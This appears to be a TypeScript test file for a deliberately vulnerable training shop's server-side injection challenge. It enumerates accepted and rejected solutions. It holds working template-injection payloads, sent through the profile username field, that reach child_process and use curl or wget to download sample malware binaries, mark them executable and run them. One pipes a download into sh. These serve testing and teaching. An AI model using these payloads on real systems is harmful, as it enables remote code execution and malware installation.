import { defineWays } from '#game/define.ts'
import { becomeShopper } from '#game/visitor/shopper.ts'
import type { Visitor, VisitorReply } from '#game/visitor/visitor.ts'

const DOOR = 'http://localhost:3000/solve/challenges/server-side'
const KEY = 'tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
const SAMPLES = 'https://github.com/juice-shop/juicy-malware/raw/master/juicy_malware'

export default defineWays({
  otherWays: {
    'the call without the program': (visitor) => compute(visitor, shell(`curl "${DOOR}?key=${KEY}"`)),
    'the payload of older walkthroughs': (visitor) =>
      compute(
        visitor,
        `root.process.mainModule.require('child_process').exec('wget -O malware https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_64?raw=true && chmod +x malware && ./malware')`,
      ),
    'one step after the other': async (visitor) => {
      await compute(visitor, shell(`curl -sLo /tmp/juice ${SAMPLES}_linux_amd_64`))
      await compute(visitor, `require('fs').chmodSync('/tmp/juice', 0o755)`)
      return compute(visitor, `process.mainModule.require('child_process').spawnSync('/tmp/juice')`)
    },
    'a program piped into a shell': (visitor) => compute(visitor, shell(`curl -s ${SAMPLES}_macos_64 | sh`)),
    'a request without a shell': (visitor) => compute(visitor, `require('http').get('${DOOR}?key=${KEY}')`),
    'a request by fetch': (visitor) =>
      compute(visitor, `fetch('http://127.0.0.1:3000/solve/challenges/server-side?key=${KEY}')`),
  },
  mishaps: {
    'a name that is honest': [200, (visitor) => name(visitor, 'Pip')],
    'a sum': [200, (visitor) => compute(visitor, '1 + 1')],
    'a sum, and the call from outside': [
      200,
      async (visitor) => {
        await compute(visitor, '1 + 1')
        return visitor.get(`/solve/challenges/server-side?key=${KEY}`)
      },
    ],
    'the program, fetched and not started': [
      200,
      (visitor) => compute(visitor, shell(`wget -O malware ${SAMPLES}_linux_amd_64`)),
    ],
    'the program, without leave to run': [
      200,
      (visitor) => compute(visitor, shell(`wget -O malware ${SAMPLES}_linux_amd_64; ./malware`)),
    ],
    'the program of another system': [
      200,
      (visitor) =>
        compute(visitor, shell(`wget -O juice.exe ${SAMPLES}_windows_64.exe; chmod +x juice.exe; ./juice.exe`)),
    ],
    'the call with a wrong word': [200, (visitor) => compute(visitor, shell(`curl "${DOOR}?key=please"`))],
    'the call as a name': [200, (visitor) => name(visitor, `curl ${DOOR}?key=${KEY}`)],
    'a program that fails': [200, (visitor) => compute(visitor, shell('nothing-of-this-name'))],
  },
})

function shell(command: string): string {
  return `global.process.mainModule.require('child_process').exec('${command}')`
}

function compute(visitor: Visitor, code: string): Promise<VisitorReply> {
  return name(visitor, `#{${code}}`)
}

async function name(visitor: Visitor, username: string): Promise<VisitorReply> {
  await becomeShopper(visitor)
  await visitor.submit('/profile', { username })
  return visitor.get('/profile')
}
